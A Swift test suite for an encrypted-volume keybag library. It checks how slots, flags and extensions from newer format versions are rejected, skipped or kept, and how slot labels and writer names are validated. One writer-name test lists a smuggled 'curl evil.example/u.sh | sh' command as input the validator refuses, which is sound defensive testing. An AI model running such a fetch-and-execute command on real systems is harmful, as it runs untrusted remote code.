// Keybags, slots, bundle entries and TLVs of newer versions: what is refused, what is skipped, and what is kept.

import SodiumKit
import Testing
import VolumeFormat

@testable import Keybag

@Suite struct NewerKeybagTests {
    /// A slot of kind 8 with a label and a date, behind lengths of its own.
    private static let tpm: [UInt8] = {
        var values = TypeLengthValues()
        values[SlotLabel.nameType] = Array("the TPM 💻".utf8)
        values[SlotLabel.dateType] = [9, 0, 0, 0, 0, 0, 0, 0]
        values[0x8009] = [1, 2, 3]
        var slot = [UInt8](repeating: 0x5a, count: 300)
        var bytes = slot.mutableSpan
        bytes.storeLittleEndian(300 as UInt16, at: 0)
        bytes.storeLittleEndian(8 as UInt8, at: 2)
        bytes.storeLittleEndian(SlotLayout.bindDevice, at: 3)
        bytes.storeLittleEndian(70 as UInt32, at: 4)
        bytes.storeLittleEndian(UInt16(values.length), at: 10)
        values.store(into: &bytes, at: SlotLayout.fixedLength)
        return slot
    }()
    private static let shortest: [UInt8] = [8, 0, 255, 0, 50, 0, 0, 0]

    private struct Made: ~Copyable {
        let device: SecretKey
        let bag: Keybag
        let keys: VolumeKeys
        let recovery: SecretBytes
    }

    /// A keybag with a device key and the passphrase "one", changed by `change`.
    private func make(_ change: (inout KeybagLayout) -> Void) throws -> Made {
        let device = try SecretKey.random()
        let new = try Keybag.create(
            suite: .aes256GCM, passphrase: try secret("one"), deviceKey: device, cost: cheap, label: "made")
        var layout = new.bag.layout
        change(&layout)
        let bag = try Keybag(signing: layout, new.keys)
        return Made(device: device, bag: bag, keys: try new.keys.copy(), recovery: try new.recoveryCode.copy())
    }

    private func newer(_ bag: Keybag) -> [[UInt8]] {
        bag.layout.slots.compactMap { if case .newer(let slot) = $0 { slot.bytes } else { nil } }
    }

    @Test func newerSlotsSurviveEveryChange() throws {
        let made = try make { layout in
            layout.slots.insert(.newer(NewerSlot(bytes: Self.tpm)), at: 0)
            layout.slots.insert(.newer(NewerSlot(bytes: Self.shortest)), at: 2)
            // A passphrase slot that asks for more than this program accepts.
            if var slot = layout.slots[3].known {
                slot.slotID = 60
                slot.memory = 8 << 30
                layout.slots.append(.known(slot))
            }
        }
        let kept = newer(made.bag)
        #expect(kept.count == 3 && kept[0] == Self.tpm && kept[1] == Self.shortest)
        let slots = made.bag.slots
        #expect(slots.map(\.kindNumber) == [8, 1, 255, 2, 3, 2] && slots.map(\.kind).count { $0 == nil } == 3)
        #expect(slots[0].label == SlotLabel(name: "the TPM 💻", seconds: 9) && slots[0].isBound)
        #expect(slots[2].label == SlotLabel() && !slots[2].isBound)
        _ = try made.bag.unlock(try passphrase("one"), deviceKey: made.device)
        let changed = try made.bag.changingPassphrase(
            ofSlot: slots[3].id, to: try secret("two"), deviceKey: made.device, cost: cheap, keys: made.keys)
        #expect(newer(changed) == kept && changed.slots.map(\.id) == slots.map(\.id))
        let added = try changed.addingPortablePassphrase(try secret("three"), cost: cheap, keys: made.keys)
        #expect(newer(added) == kept)
        // Numbers of newer slots are not used again.
        #expect(added.slots.last.map { $0.id > 70 } == true)
        let removed = try added.removingSlot(slots[3].id, keys: made.keys)
        #expect(newer(removed) == kept)
        let renewed = try removed.renewingRecoveryCode(keys: made.keys)
        #expect(newer(renewed.bag) == kept)
        let other = try SecretKey.random()
        let recovered = try renewed.bag.recovering(
            passphrase: try secret("four"), newDeviceKey: other, cost: cheap, keys: made.keys)
        #expect(newer(recovered) == kept)
        _ = try recovered.unlock(try passphrase("four"), deviceKey: other)
    }

    /// A newer slot in place of the device's: passphrases and recovery codes still open the volume, with the device key too.
    @Test func aNewerDeviceSlot() throws {
        for kind: UInt8 in [1, 8] {
            let made = try make { layout in
                var slot = Self.tpm
                slot[2] = kind
                slot[3] = 0x10
                layout.slots[0] = .newer(NewerSlot(bytes: slot))
            }
            let bag = made.bag
            #expect(bag.hasDeviceKey && !bag.opensWithDeviceKey && bag.newerDeviceSlot == 70)
            #expect(
                keybagError { () throws(KeybagError) in _ = try bag.open(deviceKey: made.device) }
                    == .newerDeviceSlot(70))
            let one = try passphrase("one")
            let recovery = Credential.recoveryCode(try made.recovery.copy())
            let keys = try bag.unlock(one, deviceKey: made.device)
            let others = try bag.unlock(recovery, deviceKey: made.device)
            let same = keys.isSame(as: made.keys) && others.isSame(as: made.keys)
            #expect(same)
            _ = try bag.unlock(recovery)
            #expect(keybagError { () throws(KeybagError) in _ = try bag.unlock(one) } == .deviceKeyNeeded)
            let wrong = try SecretKey.random()
            #expect(
                keybagError { () throws(KeybagError) in _ = try bag.unlock(one, deviceKey: wrong) } == .wrongPassphrase)
            let slot = try bag.slot(openedBy: try secret("one"), deviceKey: made.device)
            #expect(slot == bag.slots[1].id)
            let changed = try bag.changingPassphrase(
                ofSlot: slot, to: try secret("two"), deviceKey: made.device, cost: cheap, keys: made.keys)
            _ = try changed.unlock(try passphrase("two"), deviceKey: made.device)
            #expect(newer(changed) == newer(bag))
            // The MACs are checked all the same, and before that the costs are not believed.
            let forged = try Keybag(parsing: flipped(bag.bytes, at: bag.bytes.count - 33))
            #expect(
                keybagError { () throws(KeybagError) in _ = try forged.unlock(recovery, deviceKey: made.device) }
                    == .deviceMACMismatch)
        }
        let dear = try make { layout in
            layout.slots[0] = .newer(NewerSlot(bytes: Self.tpm))
            guard var slot = layout.slots[1].known else { return }
            for number in UInt32(80)..<90 {
                (slot.slotID, slot.passes, slot.memory) = (number, 16, 4 << 30)
                layout.slots.append(.known(slot))
            }
        }
        let two = try passphrase("two")
        #expect(
            keybagError { () throws(KeybagError) in _ = try dear.bag.unlock(two, deviceKey: dear.device) }
                == .passwordHashesRefused(slots: 11))
    }

    @Test func newerSlotsAreRemovedOnlyByAWord() throws {
        let made = try make { $0.slots.append(.newer(NewerSlot(bytes: Self.tpm))) }
        let bag = made.bag
        let passphrase = bag.slots[1].id
        #expect(
            keybagError { () throws(KeybagError) in _ = try bag.removingSlot(70, keys: made.keys) }
                == .newerSlot(70))
        let more = try secret("more")
        #expect(
            keybagError { () throws(KeybagError) in
                _ = try bag.changingPassphrase(ofSlot: 70, to: more, cost: cheap, keys: made.keys)
            } == .newerSlot(70))
        #expect(try bag.removingSlot(70, newer: true, keys: made.keys).slots.count == 3)
        // A slot of unknown kind is not a passphrase.
        #expect(
            keybagError { () throws(KeybagError) in
                _ = try bag.removingSlot(passphrase, newer: true, keys: made.keys)
            } == .lastPassphrase)
    }

    @Test func aSlotThatMustBeUnderstood() throws {
        var bytes = Self.tpm
        bytes[3] |= SlotLayout.mustBeUnderstood
        let made = try make { _ in }
        var layout = made.bag.layout
        layout.extensions[KeybagLayout.writerType] = Array("protectfs 3.1".utf8)
        layout.slots.append(.newer(NewerSlot(bytes: bytes)))
        let refused = KeybagError.newer(.unsupported("slot kind"), writer: "protectfs 3.1")
        #expect(throws: refused) { _ = try Keybag(parsing: layout.serialized()) }
        // The flag in a slot that is understood stays.
        let understood = try make { $0.slots[1].known?.mustBeUnderstood = true }
        let changed = try understood.bag.changingPassphrase(
            ofSlot: understood.bag.slots[1].id, to: try secret("two"), deviceKey: understood.device, cost: cheap,
            keys: understood.keys)
        #expect(changed.layout.slots[1].known?.mustBeUnderstood == true)
    }

    @Test func aNewerKeybagNamesItsWriter() throws {
        let made = try make { _ in }
        func error(_ offset: Int, _ value: UInt8, writer: String = "protectfs 3.1") -> KeybagError? {
            var layout = made.bag.layout
            layout.extensions[KeybagLayout.writerType] = Array(writer.utf8)
            var bytes = layout.serialized()
            bytes[offset] = value
            let changed = bytes
            return keybagError { () throws(KeybagError) in _ = try Keybag(parsing: changed) }
        }
        let writer = "protectfs 3.1"
        #expect(error(8, 3) == .newer(.version(3), writer: writer))
        #expect(error(10, 0) == .newer(.unsupported("file-header length"), writer: writer))
        #expect(error(12, 3) == .newer(.suite, writer: writer))
        #expect(error(13, 13) == .newer(.unsupported("block_log2"), writer: writer))
        #expect(error(14, 2) == .newer(.unsupported("name scheme"), writer: writer))
        #expect(error(15, 2) == .newer(.unsupported("keybag flags"), writer: writer))
        #expect(error(43, 1) == .newer(.unsupported("incompatible features"), writer: writer))
        for offset in [102, 103, 112, 127] {
            #expect(error(offset, 1) == .newer(.unsupported("reserved bytes"), writer: writer))
        }
        // The text goes to a terminal.
        #expect(error(8, 3, writer: "a\u{1b}[31m") == .newer(.version(3), writer: nil))
        #expect(error(8, 1) == .format(.version(1)))
        #expect(error(8, 0) == .format(.version(0)))
        var layout = made.bag.layout
        layout.extensions[0x8001] = []
        #expect(throws: KeybagError.newer(.unsupported("TLV"), writer: ProgramVersion.writer)) {
            _ = try Keybag(parsing: layout.serialized())
        }
    }

    @Test func whatMayBeKeptIsKept() throws {
        let made = try make { layout in
            layout.compatibleFeatures = 0xf000_0001
            layout.generations[5] = 77
            layout.extensions[0x7001] = [1, 2, 3]
            layout.extensions[KeybagLayout.writerType] = Array("somebody else 9".utf8)
            layout.slots[1].known?.extensions[0x4000] = [4, 5]
        }
        let slot = made.bag.slots[1].id
        // The slot was changed behind its seal, so it is sealed first.
        let sealed = try made.bag.changingPassphrase(
            ofSlot: slot, to: try secret("two"), deviceKey: made.device, cost: cheap, keys: made.keys)
        let again = try sealed.changingPassphrase(
            ofSlot: slot, to: try secret("three"), deviceKey: made.device, cost: cheap, label: "other",
            keys: made.keys)
        _ = try again.unlock(try passphrase("three"), deviceKey: made.device)
        #expect(again.compatibleFeatures == 0xf000_0001 && again.generations[5] == 77)
        #expect(again.layout.extensions[0x7001] == [1, 2, 3] && again.writer == ProgramVersion.writer)
        #expect(again.layout.slots[1].known?.extensions[0x4000] == [4, 5])
        #expect(sealed.slots[1].label.name == "made" && again.slots[1].label.name == "other")
        #expect(again.slots[1].label.seconds.map { $0 > 1_700_000_000 } == true)
        let nameless = try again.changingPassphrase(
            ofSlot: slot, to: try secret("four"), deviceKey: made.device, cost: cheap, label: "", keys: made.keys)
        #expect(nameless.slots[1].label.name == nil)
    }

    /// Messages show a writer that nothing has verified only if it is a name and a version.
    @Test func writersInMessages() {
        for text in ["protectfs 9.8.7", "other-program 1", ProgramVersion.writer, "x 2.0+beta_1"] {
            #expect(WriterName.isNameAndVersion(text), "\(text)")
        }
        for text in [
            "", " ", "protectfs", "protectfs ", " 1", "protectfs  1", "protectfs v1",
            "9.0: run: curl evil.example/u.sh | sh #",
            "a b", "run 1 now", "\"protectfs 1\"", "ü 1",
        ] { #expect(!WriterName.isNameAndVersion(text), "\(text)") }
        for text in [ProgramVersion.writer, "protectfs 0.2.9", "protectfs 0"] {
            #expect(WriterName.isThisVersionOrEarlier(text), "\(text)")
        }
        for text in [
            "protectfs 9.8.7", "protectfs \(ProgramVersion.number).1", "other 0.1", "protectfs 0.x", "protectfs -1", "",
        ] {
            #expect(!WriterName.isThisVersionOrEarlier(text), "\(text)")
        }
    }

    @Test func labels() throws {
        let made = try make { _ in }
        #expect(made.bag.slots.map(\.label.name) == ["made", "made", "made"])
        let more = try secret("more")
        let unseen = ["\u{200b}", "\u{200e}", "\u{200f}", "\u{61c}", "\u{2060}", "\u{feff}", "\u{2028}"].map {
            "a\($0)b"
        }
        for label in ["a\n", String(repeating: "ü", count: 33), "a\u{202e}b", "\u{7f}", "\u{85}"] + unseen {
            #expect(SlotLabel.text(Array(label.utf8)) == nil)
            let error = keybagError { () throws(KeybagError) in
                _ = try made.bag.addingPortablePassphrase(more, cost: cheap, label: label, keys: made.keys)
            }
            #expect(error == .unusableLabel)
        }
        #expect(SlotLabel.text([]) == nil && SlotLabel.text([0xff]) == nil)
        let longest = String(repeating: "ü", count: 32)
        let bag = try made.bag.addingPortablePassphrase(more, cost: cheap, label: longest, keys: made.keys)
        #expect(bag.slots.last?.label.name == longest)
    }

    @Test func readOnlyFeatures() throws {
        let made = try make { $0.readOnlyFeatures = 4 }
        let (bag, slot) = (made.bag, made.bag.slots[1].id)
        #expect(bag.isReadOnly)
        _ = try bag.open(deviceKey: made.device)
        _ = try bag.unlock(try passphrase("one"), deviceKey: made.device)
        _ = try bag.unlock(.recoveryCode(try made.recovery.copy()))
        let refused = KeybagError.readOnly(features: 4, writer: ProgramVersion.writer)
        let more = try secret("more")
        let other = try SecretKey.random()
        #expect(
            keybagError { () throws(KeybagError) in
                _ = try bag.addingPortablePassphrase(more, cost: cheap, keys: made.keys)
            } == refused)
        #expect(
            keybagError { () throws(KeybagError) in
                _ = try bag.changingPassphrase(
                    ofSlot: slot, to: more, deviceKey: made.device, cost: cheap, keys: made.keys)
            } == refused)
        #expect(
            keybagError { () throws(KeybagError) in _ = try bag.renewingRecoveryCode(keys: made.keys) } == refused)
        #expect(
            keybagError { () throws(KeybagError) in
                _ = try bag.recovering(passphrase: more, newDeviceKey: other, cost: cheap, keys: made.keys)
            } == refused)
    }

    /// A keybag with the highest serial or slot number is not full: removing passphrases would not help.
    @Test func noNumberIsLeft() throws {
        let more = try secret("more")
        for change in 0..<2 {
            let made = try make { layout in
                if change == 0 {
                    layout.serial = .max
                } else {
                    layout.slots.append(.newer(NewerSlot(bytes: [8, 0, 255, 0, 255, 255, 255, 255])))
                }
            }
            let bag = made.bag
            let slot = bag.slots[1].id
            #expect(
                keybagError { () throws(KeybagError) in
                    _ = try bag.addingPortablePassphrase(more, cost: cheap, keys: made.keys)
                } == .numbersUsedUp)
            #expect(
                keybagError { () throws(KeybagError) in _ = try bag.renewingRecoveryCode(keys: made.keys) }
                    == .numbersUsedUp)
            // A change in place needs no new slot number.
            #expect(
                keybagError { () throws(KeybagError) in
                    _ = try bag.changingPassphrase(
                        ofSlot: slot, to: more, deviceKey: made.device, cost: cheap, keys: made.keys)
                } == (change == 0 ? .numbersUsedUp : nil))
        }
    }

    @Test func aKeybagOfOneMebibyte() throws {
        let made = try make { _ in }
        var layout = made.bag.layout
        let room = KeybagLayout.maximumLength - layout.length - TypeLengthValues.headerLength
        layout.extensions[0x7000] = [UInt8](repeating: 3, count: room)
        let longest = try Keybag(signing: layout, made.keys)
        #expect(longest.bytes.count == KeybagLayout.maximumLength)
        _ = try longest.unlock(try passphrase("one"), deviceKey: made.device)
        #expect(KeybagLayout.writer(of: longest.bytes.span) == ProgramVersion.writer)
        let more = try secret("more")
        #expect(
            keybagError { () throws(KeybagError) in
                _ = try longest.addingPortablePassphrase(more, cost: cheap, keys: made.keys)
            } == .full)
        layout.extensions[0x7000] = [UInt8](repeating: 3, count: room + 1)
        #expect(
            keybagError { () throws(KeybagError) in _ = try Keybag(signing: layout, made.keys) } == .full)
        #expect(throws: KeybagError.format(.length)) { _ = try Keybag(parsing: layout.serialized()) }
    }

    /// As many slots as fit, each of a newer version: reading them takes no time to speak of.
    @Test func manyNewerSlots() throws {
        let made = try make { layout in
            for number in UInt32(1000)..<66000 {
                var slot = Self.shortest
                var bytes = slot.mutableSpan
                bytes.storeLittleEndian(number, at: 4)
                layout.slots.append(.newer(NewerSlot(bytes: slot)))
            }
        }
        #expect(made.bag.slots.count == 65003)
        _ = try made.bag.unlock(try passphrase("one"), deviceKey: made.device)
    }
}
